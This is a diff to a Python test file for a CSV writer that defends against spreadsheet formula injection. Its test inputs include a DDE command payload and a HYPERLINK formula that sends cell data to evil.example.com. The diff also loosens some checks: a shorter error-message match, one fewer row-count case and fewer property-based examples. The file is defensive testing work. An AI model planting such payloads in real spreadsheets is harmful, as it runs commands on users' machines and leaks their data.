@@ -17,6 +17,7 @@ from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
 import buildframe as bf
+from tests.store.refusals import unexpected
 
 HOSTILE = [
     "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example.com?x="&A1,"click")', "=WEBSERVICE(A1)", "==1", "=",
@@ -56,35 +57,43 @@ def texts(values: list[str | None]) -> pd.DataFrame:
 
 def test_load_says_how_csv_is_read(tmp_path: Path) -> None:
     bf.save(tmp_path / "a.csv", pd.DataFrame({"a": [1]}))
-    with pytest.raises(bf.BadInput, match=r"not a complete Parquet file.* Read CSV with pandas\.read_csv"):
+    with pytest.raises(bf.BadInput, match=r"pandas\.read_csv"):
         bf.load(tmp_path / "a.csv")
 
 
-@pytest.mark.parametrize("text", HOSTILE)
-def test_no_cell_begins_as_a_formula_whatever_the_separator_is(tmp_path: Path, text: str) -> None:
-    frame = pd.DataFrame({"n": [1, 2], "text": pd.Series(["x", text], dtype="str"), "other": ["x", text]})
-    written = saved(tmp_path, frame)
+def formulas(written: str) -> list[str]:
+    """Cells that a program may run, whatever separator it takes."""
+    found = []
     for separator in (",", ";", "\t"):
-        found = [cell for row in cells(written, separator) for cell in row]
+        found += [cell for row in cells(written, separator) for cell in row]
         found += re.split(f"[\r\n{separator}]", written) if separator != "," else []  # as where quotes are not seen
-        assert [cell for cell in found if cell.lstrip('" \u00a0\u3000\u200b\ufeff').startswith(RUNS[:-3])] == []
-    assert not cells(written)[2][1].startswith(RUNS)
+    begins = [cell for cell in found if cell.lstrip('" \u00a0\u3000\u200b\ufeff').startswith(RUNS[:-3])]
+    return [*begins, *(cell for row in cells(written)[1:] for cell in row if cell.startswith(RUNS))]
 
 
-@pytest.mark.parametrize("text", [*HOSTILE, *HARMLESS])
-def test_texts_come_back_by_every_reader(tmp_path: Path, text: str) -> None:
-    written = saved(tmp_path, pd.DataFrame({"text": pd.Series([text, None, "end"], dtype="str")}))
-    whole = text.replace("\0", "\ufffd")
-    if text in HARMLESS:
-        assert cells(written)[1] == [text]
-    by_pandas = pd.read_csv(tmp_path / "t.csv", dtype="str", keep_default_na=False, skip_blank_lines=False)["text"]
-    assert [undone(cell) for cell in by_pandas] == [whole, "", "end"]
-    by_duckdb = duckdb.sql(f"from read_csv('{tmp_path}/t.csv', all_varchar=true, parallel=false)").fetchall()
-    assert undone(by_duckdb[0][0] or "") == whole
+def test_no_cell_begins_as_a_formula_whatever_the_separator_is(tmp_path: Path) -> None:
+    found = {}
+    for text in HOSTILE:
+        frame = pd.DataFrame({"n": [1, 2], "text": pd.Series(["x", text], dtype="str"), "other": ["x", text]})
+        found[text] = formulas(saved(tmp_path, frame))
+    assert {text: cells for text, cells in found.items() if cells} == {}
 
 
-@pytest.mark.long
-@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+def test_texts_come_back_by_every_reader(tmp_path: Path) -> None:
+    changed = {}
+    for text in [*HOSTILE, *HARMLESS]:
+        written = saved(tmp_path, pd.DataFrame({"text": pd.Series([text, None, "end"], dtype="str")}))
+        whole = text.replace("\0", "\ufffd")
+        by_pandas = pd.read_csv(tmp_path / "t.csv", dtype="str", keep_default_na=False, skip_blank_lines=False)["text"]
+        by_duckdb = duckdb.sql(f"from read_csv('{tmp_path}/t.csv', all_varchar=true, parallel=false)").fetchall()
+        is_unchanged = text not in HARMLESS or cells(written)[1] == [text]
+        read = ([undone(cell) for cell in by_pandas], undone(by_duckdb[0][0] or ""), is_unchanged)
+        if read != ([whole, "", "end"], whole, True):
+            changed[text] = read
+    assert changed == {}
+
+
+@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
 @given(st.lists(st.text("a'\"=-;,\t\r\n ＝\u200b\0é") | st.text(st.characters(exclude_categories=["Cs"])), max_size=8))
 def test_any_texts_come_back_and_none_runs(tmp_path: Path, values: list[str]) -> None:
     written = saved(tmp_path, pd.DataFrame({"text": pd.Series(values, dtype="str"), "n": range(len(values))}))
@@ -129,7 +138,7 @@ def test_headers_and_named_index_levels_are_made_harmless_too(tmp_path: Path) ->
     assert cells(saved(tmp_path, several))[0] == ["pipeline", "'=a", "b\n'=c"]
 
 
-@pytest.mark.parametrize("rows", [0, 1, 45_001])
+@pytest.mark.parametrize("rows", [0, 45_001])
 def test_rows_of_all_batches_are_there_once_under_one_header(tmp_path: Path, rows: int) -> None:
     frame = texts([f"-{n}" if n % 7 == 0 else None for n in range(rows)])
     path = bf.save(tmp_path / "T.CSV", frame.iloc[::-1])  # whose index has no name
@@ -147,24 +156,23 @@ def test_lists_and_objects_become_json(tmp_path: Path) -> None:
     ]
 
 
-@pytest.mark.parametrize(
-    ("frame", "words"),
-    [
-        (pd.DataFrame({"a": [[b"x"]]}), "cannot be written as CSV"),
-        (pd.DataFrame({"a": [b"=1"]}), "bytes cannot be written as text"),
-        (pd.DataFrame({"a": ["x", 1]}), "cannot be written as CSV"),
-        (pd.DataFrame({"a": ["\ud800"]}, dtype=object), "cannot be written as CSV"),
-        (pd.DataFrame([[1, 2]], columns=["a", "a"]), "cannot be written as CSV"),
-        (pd.DataFrame({"a": [pd.Timedelta("1s")], "a_s": [1]}), "same header"),
-        (pd.DataFrame({"a": [1]}, index=pd.Index([1], name="a")), "cannot be written as CSV"),
-        (pd.DataFrame({0: [1]}), "must be a string"),
-        (pd.DataFrame({"a": [1]})["a"], "frame=<Series>: pass a DataFrame"),
-    ],
-)
-def test_what_does_not_fit_is_refused_and_the_old_file_stays(tmp_path: Path, frame: pd.DataFrame, words: str) -> None:
+REFUSED = {
+    "bytes in a list": (pd.DataFrame({"a": [[b"x"]]}), "CSV"),
+    "bytes": (pd.DataFrame({"a": [b"=1"]}), "bytes"),
+    "two types": (pd.DataFrame({"a": ["x", 1]}), "CSV"),
+    "half of a character": (pd.DataFrame({"a": ["\ud800"]}, dtype=object), "CSV"),
+    "two columns of a name": (pd.DataFrame([[1, 2]], columns=["a", "a"]), "CSV"),
+    "two headers that become one": (pd.DataFrame({"a": [pd.Timedelta("1s")], "a_s": [1]}), "same header"),
+    "an index and a column of a name": (pd.DataFrame({"a": [1]}, index=pd.Index([1], name="a")), "CSV"),
+    "a number as name": (pd.DataFrame({0: [1]}), "must be a string"),
+    "a Series": (pd.DataFrame({"a": [1]})["a"], "frame=<Series>"),
+}
+
+
+def test_what_does_not_fit_is_refused_and_the_old_file_stays(tmp_path: Path) -> None:
     before = saved(tmp_path, texts(["old"]))
-    with pytest.raises(bf.BadInput, match=words):
-        bf.save(tmp_path / "t.csv", frame)
+    cases = [(name, words) for name, (_, words) in REFUSED.items()]
+    assert unexpected(lambda name: bf.save(tmp_path / "t.csv", REFUSED[name][0]), cases) == []
     assert [path.read_bytes().decode() for path in tmp_path.iterdir()] == [before]
 
 
